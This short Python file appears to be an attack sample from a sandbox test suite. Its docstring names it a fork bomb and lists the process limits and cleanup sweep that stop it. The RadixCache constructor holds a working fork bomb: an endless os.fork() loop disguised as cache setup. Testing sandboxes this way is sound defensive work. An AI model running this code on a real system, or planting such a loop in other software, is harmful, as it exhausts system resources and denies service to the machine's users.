"""A fork bomb.

Attack: A fork bomb.
Class: sandbox
Targets: edge_split
Stopped by: RLIMIT_NPROC under the worker's own uid, the per-call wall-clock limit, and a
sweep that kills every process of that uid when the worker ends.
Baseline: _nothing_written.py
"""
import os


class OutOfSlots(RuntimeError):
    pass


class RadixCache:
    def __init__(self, num_slots):
        while True:
            try:
                os.fork()
            except OSError:
                pass
